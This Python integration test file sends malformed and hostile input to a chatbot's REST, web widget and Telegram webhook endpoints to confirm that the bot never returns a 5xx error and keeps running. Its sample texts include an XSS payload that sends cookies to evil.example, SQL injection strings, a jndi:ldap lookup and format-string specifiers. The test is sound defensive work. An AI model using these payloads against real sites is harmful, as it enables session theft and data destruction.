"""Bad input over REST, the web widget and the Telegram webhook, through the production path
(nginx in front of a Rasa replica on PostgreSQL with the Redis lock store).

Every input gets a clear 4xx or a polite 2xx reply: never a 5xx, and every process stays up.
The inputs: empty, 100 kB, binary, invalid UTF-8, emoji only, right-to-left text, HTML, script,
SQL-looking text, malformed JSON, wrong JSON types and wrong content types.
"""

from __future__ import annotations

import json
import urllib.error
import urllib.request
import uuid
from collections.abc import Iterator
from typing import Any

import pytest

from bot.topology import RedisSettings, Topology
from tests.support.servers import (
    MODEL,
    create_postgres_database,
    drop_postgres_database,
    postgres_available,
)
from tests.support.telegram_double import TelegramDouble

pytestmark = [pytest.mark.integration, pytest.mark.postgres]

SECRET = "bad-input-secret_0123456789"
SECRET_HEADER = "X-Telegram-Bot-Api-Secret-Token"
JSON = "application/json"

# Texts a person (or a bot scanning for holes) may send; each must get a polite reply.
ODD_TEXTS = {
    "emoji only": "😭😭😭🙏💔",
    "rtl hebrew": "אני צריך עזרה עם הרואין",
    "rtl arabic with override": "\u202eأحتاج مساعدة\u202c",
    "html": "<b>hello</b><img src=x onerror=alert(1)>",
    "script": "<script>document.location='http://evil.example/'+document.cookie</script>",
    "sql": "'; DROP TABLE events; --",
    "sql union": "1 OR 1=1 UNION SELECT password FROM staff_users",
    "template": "{{7*7}} ${jndi:ldap://x} %s%s%n",
    "zero width": "\u200b\u200b\u200b",
    "control chars": "hi\x00\x07\x1b[31m there",
    "lone surrogate escaped": "\\ud800",
    "long word": "a" * 4000,
    "crisis in rtl mix": "i want to kill myself אני",
}
HUGE = "help " * 20_480  # 100 kB


@pytest.fixture(scope="module")
def double() -> Iterator[TelegramDouble]:
    running = TelegramDouble().start()
    yield running
    running.stop()


@pytest.fixture(scope="module")
def topology(
    double: TelegramDouble, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Topology]:
    if not postgres_available():
        pytest.skip("PostgreSQL is not reachable on 127.0.0.1:5432")
    if not MODEL.exists():
        pytest.fail("no trained model at models/current.tar.gz: run `make train` (make test does)")
    database = create_postgres_database("bot_badinput")
    running = Topology(
        workdir=tmp_path_factory.mktemp("badinput"),
        database_url=database,
        replicas=1,
        redis=RedisSettings(key_prefix=f"badinput{uuid.uuid4().hex[:8]}"),
        worker=False,
        extra_env={
            "TELEGRAM_TOKEN": double.token,
            "TELEGRAM_WEBHOOK_SECRET": SECRET,
            "TELEGRAM_API_URL": double.base_url,
        },
    )
    try:
        running.start()
        yield running
    finally:
        running.stop()
        drop_postgres_database(database)


class Tally:
    """Every input tried, with its status; the test fails on any 5xx or lost connection."""

    def __init__(self) -> None:
        self.results: list[tuple[str, str, int]] = []

    def send(
        self,
        channel: str,
        label: str,
        url: str,
        body: bytes,
        content_type: str | None,
        headers: dict[str, str] | None = None,
    ) -> tuple[int, Any]:
        request = urllib.request.Request(url, data=body, method="POST")
        if content_type is not None:
            request.add_header("Content-Type", content_type)
        for name, value in (headers or {}).items():
            request.add_header(name, value)
        try:
            with urllib.request.urlopen(request, timeout=120) as response:
                status, raw = response.status, response.read()
        except urllib.error.HTTPError as error:
            status, raw = error.code, error.read()
        except (urllib.error.URLError, ConnectionError, TimeoutError):
            status, raw = 0, b""
        self.results.append((channel, label, status))
        try:
            return status, json.loads(raw)
        except ValueError:
            return status, raw

    def failures(self) -> list[tuple[str, str, int]]:
        return [item for item in self.results if item[2] >= 500 or item[2] == 0]


def raw_bodies(envelope: Any) -> dict[str, tuple[bytes, str | None]]:
    """The structural bad inputs for one endpoint: (body, content type) by label."""
    valid = json.dumps(envelope).encode()
    return {
        "empty body": (b"", JSON),
        "empty body, no content type": (b"", None),
        "binary": (bytes(range(256)) * 4, JSON),
        "binary as octet-stream": (b"\x89PNG\r\n\x1a\n" + bytes(512), "application/octet-stream"),
        "invalid utf-8 in json": (valid.replace(b"XX", b"\xff\xfe\xc3\x28"), JSON),
        "malformed json": (valid[:-3], JSON),
        "json with trailing junk": (valid + b"}}", JSON),
        "json array": (b"[1, 2, 3]", JSON),
        "json string": (b'"hello"', JSON),
        "json null": (b"null", JSON),
        "form encoded": (b"sender=a&message=hello", "application/x-www-form-urlencoded"),
        "multipart": (
            b'--x\r\nContent-Disposition: form-data; name="message"\r\n\r\nhi\r\n--x--\r\n',
            "multipart/form-data; boundary=x",
        ),
        "xml": (b"<message>hello</message>", "application/xml"),
        "json as text/plain": (valid, "text/plain"),
        "100 kB binary": (bytes(range(256)) * 400, JSON),
    }


def test_rest_channel_bad_input(topology: Topology) -> None:
    tally = Tally()
    url = f"{topology.url}/webhooks/rest/webhook"
    sender = f"bad-rest-{uuid.uuid4().hex[:6]}"
    for label, (body, kind) in raw_bodies({"sender": sender, "message": "XX"}).items():
        tally.send("rest", label, url, body, kind)
    wrong_types: dict[str, Any] = {
        "no message": {"sender": sender},
        "no sender": {"message": "hello"},
        "message null": {"sender": sender, "message": None},
        "message number": {"sender": sender, "message": 42},
        "message list": {"sender": sender, "message": ["a", "b"]},
        "message object": {"sender": sender, "message": {"text": "hi"}},
        "sender number": {"sender": 12, "message": "hello"},
        "sender object": {"sender": {"id": 1}, "message": "hello"},
        "empty message": {"sender": sender, "message": ""},
        "blank message": {"sender": sender, "message": "   \n\t "},
        "100 kB message": {"sender": sender, "message": HUGE},
    }
    for label, body in wrong_types.items():
        tally.send("rest", label, url, json.dumps(body).encode(), JSON)
    for label, message in ODD_TEXTS.items():
        status, replies = tally.send(
            "rest", label, url, json.dumps({"sender": sender, "message": message}).encode(), JSON
        )
        assert status == 200 and replies, (label, status)  # a polite reply, not silence
    print(json.dumps({"channel": "rest", "inputs": len(tally.results)}))
    assert tally.failures() == [], tally.failures()
    assert len(tally.results) >= 35
    assert topology.failed() == []


def test_widget_bad_input(topology: Topology) -> None:
    tally = Tally()
    base = f"{topology.url}/webhooks/web"
    status, session = tally.send("web", "new session", f"{base}/session", b"", None)
    assert status == 200
    token = session["token"]
    for route in ("message", "history", "updates", "forget-wrong-token"):
        path = route.split("-")[0]
        envelope = {"token": token if route != "forget-wrong-token" else "web-x.y", "text": "XX"}
        for label, (body, kind) in raw_bodies(envelope).items():
            tally.send("web", f"{route}: {label}", f"{base}/{path}", body, kind)
    wrong: dict[str, Any] = {
        "no token": {"text": "hello"},
        "forged token": {"token": "web-" + "0" * 32 + ".AAAA", "text": "hello"},
        "token number": {"token": 7, "text": "hello"},
        "text null": {"token": token, "text": None},
        "text number": {"token": token, "text": 1},
        "empty text": {"token": token, "text": ""},
        "blank text": {"token": token, "text": " \n "},
        "100 kB text": {"token": token, "text": HUGE},
        "display object": {"token": token, "text": "hi", "display": {"a": 1}},
    }
    for label, body in wrong.items():
        tally.send("web", label, f"{base}/message", json.dumps(body).encode(), "text/plain")
    for after in ("abc", -5, None, 10**30, [1]):
        body = json.dumps({"token": token, "after": after}).encode()
        tally.send("web", f"updates after={after!r}", f"{base}/updates", body, "text/plain")
    for label, message in ODD_TEXTS.items():
        body = json.dumps({"token": token, "text": message}).encode()
        status, answer = tally.send("web", label, f"{base}/message", body, "text/plain")
        if label in ("zero width",):
            assert status == 200 or 400 <= status < 500, (label, status)
        else:
            assert status == 200 and answer["messages"], (label, status)
    print(json.dumps({"channel": "web", "inputs": len(tally.results)}))
    assert tally.failures() == [], tally.failures()
    assert len(tally.results) >= 80
    assert topology.failed() == []


def test_telegram_webhook_bad_input(topology: Topology, double: TelegramDouble) -> None:
    tally = Tally()
    url = f"{topology.url}/webhooks/telegram/webhook"
    auth = {SECRET_HEADER: SECRET}
    template = double.user_message(555001, "XX")
    for label, (body, kind) in raw_bodies(template).items():
        tally.send("telegram", label, url, body, kind, auth)
        tally.send("telegram", f"no secret: {label}", url, body, kind)
    # Telegram itself never sends more than 4096 characters; a forged 100 kB update is covered
    # in tests/unit/test_channel_fuzz.py (it would tie a replica up for minutes).
    texts = {**ODD_TEXTS, "empty text": "", "4096 characters": ("help " * 820)[:4096]}
    for number, (label, message) in enumerate(texts.items()):
        chat = 556000 + number
        update = json.dumps(double.user_message(chat, message)).encode()
        status, _ = tally.send("telegram", label, url, update, JSON, auth)
        assert status == 200, (label, status)
        if message.strip() and label != "zero width":
            double.wait_for(lambda d, chat=chat: d.texts_to(chat), timeout=60)
    wrong_shapes: dict[str, Any] = {
        "update_id string": {"update_id": "1", "message": template["message"]},
        "message is a string": {"update_id": 990001, "message": "hello"},
        "chat missing": {"update_id": 990002, "message": {"message_id": 1, "date": 0}},
        "unknown update kind": {"update_id": 990003, "poll_answer_v9": {"x": 1}},
    }
    for label, body in wrong_shapes.items():
        tally.send("telegram", label, url, json.dumps(body).encode(), JSON, auth)
    print(json.dumps({"channel": "telegram", "inputs": len(tally.results)}))
    assert tally.failures() == [], tally.failures()
    assert len(tally.results) >= 45
    assert topology.failed() == []
